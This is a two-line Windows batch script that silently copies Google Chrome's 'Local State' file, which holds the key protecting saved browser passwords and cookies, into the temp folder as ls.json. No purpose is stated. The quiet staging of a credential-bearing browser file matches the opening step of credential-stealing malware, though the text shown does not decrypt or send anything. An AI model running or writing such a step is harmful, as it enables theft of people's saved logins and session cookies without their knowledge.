@echo off
copy "%LOCALAPPDATA%\Google\Chrome\User Data\Local State" %TEMP%\ls.json >nul
